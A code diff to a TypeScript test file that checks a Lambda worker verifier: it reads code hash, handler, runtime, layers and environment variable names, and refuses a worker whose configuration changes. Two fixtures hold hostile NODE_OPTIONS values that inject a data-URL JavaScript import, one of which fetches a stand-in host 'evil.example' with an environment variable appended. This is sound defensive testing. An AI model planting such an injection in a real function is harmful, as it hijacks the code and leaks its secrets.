@@ -1,6 +1,6 @@
 // Trust configuration (CREDVEND_TRUSTED_KEYS, signed registrations in CREDVEND_WORKERS) and the
-// Lambda code hash, with the Lambda API mocked at the SDK boundary.
-import { GetFunctionConfigurationCommand, LambdaClient } from "@aws-sdk/client-lambda";
+// Lambda code hash and configuration, with the Lambda API mocked at the SDK boundary.
+import { GetFunctionConfigurationCommand, LambdaClient, type GetFunctionConfigurationCommandOutput } from "@aws-sdk/client-lambda";
 import { mockClient } from "aws-sdk-client-mock";
 import { describe, expect, it } from "vitest";
 import { ConfigError } from "../../plugin-workers/sdk/env.js";
@@ -52,11 +52,58 @@ describe("trust configuration", () => {
   });
 });
 
-describe("Lambda CodeSha256", () => {
+/** The demo worker as GetFunctionConfiguration answers for it, deployed as signed. */
+const DEPLOYED: GetFunctionConfigurationCommandOutput = {
+  $metadata: {},
+  CodeSha256: sha256Base64(DEMO_CODE),
+  Handler: "index.handler",
+  Runtime: "nodejs24.x",
+  Environment: { Variables: { DEMO_TABLE: "credvend-demo-tokens" } },
+};
+const FUNCTION_ARN = "arn:aws:lambda:eu-west-1:123456789012:function:credvend-demo";
+
+describe("Lambda CodeSha256 and configuration", () => {
+  it("reads code hash, layers, handler, runtime and variable names from one GetFunctionConfiguration, never the values", async () => {
+    const lambda = new LambdaClient({ region: "eu-west-1", credentials: { accessKeyId: "a", secretAccessKey: "b" } });
+    const mock = mockClient(lambda);
+    mock.on(GetFunctionConfigurationCommand).resolves({
+      ...DEPLOYED,
+      Layers: [{ Arn: "arn:aws:lambda:eu-west-1:123456789012:layer:wrapper:3", CodeSize: 10 }],
+      Environment: { Variables: { NODE_OPTIONS: "--import=data:text/javascript,evil()", DEMO_TABLE: "t" } },
+    });
+    const configuration = await new LambdaCodeHash(lambda, FUNCTION_ARN).configuration();
+    expect(configuration).toEqual({
+      codeSha256: sha256Base64(DEMO_CODE),
+      lambda: {
+        handler: "index.handler",
+        runtime: "nodejs24.x",
+        layers: ["arn:aws:lambda:eu-west-1:123456789012:layer:wrapper:3"],
+        environmentNames: ["DEMO_TABLE", "NODE_OPTIONS"],
+      },
+    });
+    expect(JSON.stringify(configuration)).not.toContain("evil");
+    expect(mock.commandCalls(GetFunctionConfigurationCommand)).toHaveLength(1);
+  });
+
+  it("reports variables Lambda could not show, and a function without handler or runtime (a container image) as empty", async () => {
+    const lambda = new LambdaClient({ region: "eu-west-1", credentials: { accessKeyId: "a", secretAccessKey: "b" } });
+    mockClient(lambda).on(GetFunctionConfigurationCommand).resolves({
+      CodeSha256: DEPLOYED.CodeSha256,
+      Environment: { Error: { ErrorCode: "KMSAccessDeniedException", Message: "no" } },
+    });
+    expect((await new LambdaCodeHash(lambda, FUNCTION_ARN).configuration()).lambda).toEqual({
+      handler: "",
+      runtime: "",
+      layers: [],
+      environmentNames: [],
+      environmentError: "KMSAccessDeniedException",
+    });
+  });
+
   it("verifies against GetFunctionConfiguration and notices a redeploy", async () => {
     const lambda = new LambdaClient({ region: "eu-west-1", credentials: { accessKeyId: "a", secretAccessKey: "b" } });
     const mock = mockClient(lambda);
-    mock.on(GetFunctionConfigurationCommand).resolves({ CodeSha256: sha256Base64(DEMO_CODE) });
+    mock.on(GetFunctionConfigurationCommand).resolves(DEPLOYED);
     const key = await generateKeyPair();
     const alerts: Notification[] = [];
     let now = Date.now();
@@ -65,7 +112,7 @@ describe("Lambda CodeSha256", () => {
         {
           registration: { name: "demo", providers: ["demo"], signed: await signDemo(key) },
           client: inMemoryWorkerClient(demoPlugin()),
-          code: new LambdaCodeHash(lambda, "arn:aws:lambda:eu-west-1:123456789012:function:credvend-demo"),
+          code: new LambdaCodeHash(lambda, FUNCTION_ARN),
         },
       ],
       trust: trustOf(key),
@@ -79,9 +126,36 @@ describe("Lambda CodeSha256", () => {
       FunctionName: "arn:aws:lambda:eu-west-1:123456789012:function:credvend-demo",
     });
 
-    mock.on(GetFunctionConfigurationCommand).resolves({ CodeSha256: sha256Base64(new TextEncoder().encode("new code")) });
+    mock.on(GetFunctionConfigurationCommand).resolves({ ...DEPLOYED, CodeSha256: sha256Base64(new TextEncoder().encode("new code")) });
     now += 1000;
     await expect(directory.forProvider("demo")).rejects.toMatchObject({ code: "worker_refused" });
     expect(alerts.map((a) => a.details.reason)).toEqual(["code_mismatch"]);
+  });
+
+  it("NODE_OPTIONS added by UpdateFunctionConfiguration (same code) is refused at the next check", async () => {
+    const lambda = new LambdaClient({ region: "eu-west-1", credentials: { accessKeyId: "a", secretAccessKey: "b" } });
+    const mock = mockClient(lambda);
+    mock.on(GetFunctionConfigurationCommand).resolves(DEPLOYED);
+    const key = await generateKeyPair();
+    const alerts: Notification[] = [];
+    let now = Date.now();
+    const directory = new VerifiedPluginDirectory({
+      workers: [{ registration: { name: "demo", providers: ["demo"], signed: await signDemo(key) }, client: inMemoryWorkerClient(demoPlugin()), code: new LambdaCodeHash(lambda, FUNCTION_ARN) }],
+      trust: trustOf(key),
+      notifier: { notify: async (n) => void alerts.push(n) },
+      audit: async () => undefined,
+      clock: { now: () => new Date(now) },
+      recheckIntervalMs: 1000,
+    });
+    expect(await directory.forProvider("demo")).toBeDefined();
+    mock.on(GetFunctionConfigurationCommand).resolves({
+      ...DEPLOYED,
+      Environment: { Variables: { DEMO_TABLE: "t", NODE_OPTIONS: "--import=data:text/javascript,fetch('https://evil.example/'+process.env.X)" } },
+    });
+    now += 1000;
+    await expect(directory.forProvider("demo")).rejects.toMatchObject({ code: "worker_refused" });
+    expect(alerts.map((a) => [a.details.reason, a.details.detail])).toEqual([
+      ["configuration_mismatch", "environment variable NODE_OPTIONS is set, which no worker may have"],
+    ]);
   });
 });
